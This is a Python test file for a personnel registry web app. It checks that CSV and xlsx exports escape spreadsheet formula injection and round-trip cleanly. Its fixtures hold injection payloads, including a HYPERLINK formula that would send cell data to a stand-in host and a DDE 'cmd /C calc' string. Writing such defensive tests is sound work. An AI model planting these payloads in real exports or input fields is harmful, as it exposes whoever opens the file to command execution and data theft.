"""What a user typed never runs as a formula in an export: xlsx cells stay text, CSV cells get a leading '."""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from storage.models import Cadre
from storage.models import TalkRecord
from tests.conftest import make_actor
from tests.webapp.conftest import app  # noqa: F401 - the fixture
from tests.webapp.conftest import registry_site
from tests.webapp.conftest import signed_in
from workflows.registry import edit
from workflows.registry.workbook.exporting import export_csv

# Through the cadre edit form (which strips what is typed, so no leading tab or CR gets there).
TYPED = {"name": '=HYPERLINK("http://x"&A1,"click")', "ft_school": "+cmd|' /C calc'!A0", "ft_major": "-2+3",
         "ethnicity": "@SUM(1+1)"}
# Through the command the form calls, which stores what it is given: a value that only looks escaped, and (which
# no form or import gives, and an import would strip) a leading tab or CR.
STORED = {"name": "'=1+1", "ft_degree": "-"}
WHITESPACE = {"ft_degree": "\t=1+1", "pt_degree": "\r=1+1"}
TALK = {"talk_date": "2026-02-10", "talk_kind": "heart_to_heart", "talkers": "=1+1", "summary": "=HYPERLINK(\"x\")"}


@pytest.fixture
def site(app, clock):  # noqa: F811
    return registry_site(app, clock)


def stored(site, staff_no: str) -> Cadre:
    with site.extensions["cadreflow.sessions"]() as session:
        return session.scalar(select(Cadre).where(Cadre.staff_no == staff_no))


def form_of(cadre: Cadre, changes: dict) -> dict:
    """The edit form as the page fills it for ``cadre``, with ``changes`` typed in."""
    values = {field: getattr(cadre, field) for field in edit.PERSON_LABELS}
    shown = {field: "1" if value is True else "" if value in (None, False) else
             value.isoformat() if isinstance(value, date) else value for field, value in values.items()}
    return shown | changes


def edited(site, clock, commanded: dict = STORED) -> None:
    """QP0001 with formulas saved through the edit form, and a talk; QP0002 with ``commanded`` through the command."""
    client = signed_in(site, "wangmin")
    first, second = stored(site, "QP0001"), stored(site, "QP0002")
    assert client.post(f"/registry/{first.id}/edit", data=form_of(first, TYPED)).status_code == 302
    assert client.post(f"/registry/{first.id}/file/talk", data=TALK).status_code == 302
    with site.extensions["cadreflow.sessions"].begin() as session:
        edit.update_person(session, make_actor(site.extensions["cadreflow.sessions"], "keeper", "personnel_office"),
                           clock.now(), second.id, commanded)
    assert stored(site, "QP0001").name == TYPED["name"]


def test_xlsx_export_writes_formulas_as_text(site, clock):
    edited(site, clock, STORED | WHITESPACE)
    data = signed_in(site, "wangmin").get("/registry/export.xlsx").data
    book = load_workbook(io.BytesIO(data))  # not read-only: the cell types as written
    formulas = [cell.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []
    cadres = book["干部"]
    headers = [cell.value for cell in cadres[1]]
    rows = {row[0]: dict(zip(headers, row, strict=True)) for row in cadres.iter_rows(min_row=2, values_only=True)}
    assert rows["QP0001"]["姓名"] == TYPED["name"] and rows["QP0001"]["毕业院校"] == TYPED["ft_school"]
    assert rows["QP0002"]["全日制学位"] == WHITESPACE["ft_degree"] and rows["QP0002"]["姓名"] == STORED["name"]
    talks = [row for row in book["谈心谈话"].iter_rows(min_row=2, values_only=True) if row[0] == "QP0001"]
    assert talks and TALK["summary"] in talks[0]


def test_csv_export_puts_an_apostrophe_before_a_formula(site, clock):
    edited(site, clock, {"name": STORED["name"], **WHITESPACE})
    rows = list(csv.reader(io.StringIO(signed_in(site, "wangmin").get("/registry/export.csv").data
                                       .decode("utf-8-sig"), newline="")))
    by_staff_no = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    first, second = by_staff_no["QP0001"], by_staff_no["QP0002"]
    assert first["姓名"] == "'" + TYPED["name"] and first["毕业院校"] == "'" + TYPED["ft_school"]
    assert first["所学专业"] == "'-2+3" and first["民族"] == "'@SUM(1+1)"
    assert second["全日制学位"] == "'\t=1+1" and second["在职学位"] == "'\r=1+1"
    assert second["姓名"] == "''=1+1"  # a value that only looks escaped is escaped once more, so it reads back
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_both_exports_import_back_unchanged(site, clock):
    edited(site, clock)
    client = signed_in(site, "wangmin")
    with site.extensions["cadreflow.sessions"]() as session:
        before = export_csv(session)
        talks = [talk.summary for talk in session.scalars(select(TalkRecord))]
    for name in ("export.csv", "export.xlsx"):
        data = client.get(f"/registry/{name}").data
        response = client.post("/registry/import", data={"file": (io.BytesIO(data), name)},
                               content_type="multipart/form-data")
        assert response.status_code == 302, response.get_data(as_text=True)
        assert stored(site, "QP0001").name == TYPED["name"] and stored(site, "QP0002").name == STORED["name"]
        assert stored(site, "QP0002").ft_degree == "-"
        with site.extensions["cadreflow.sessions"]() as session:
            assert export_csv(session) == before
            assert [talk.summary for talk in session.scalars(select(TalkRecord))] == talks
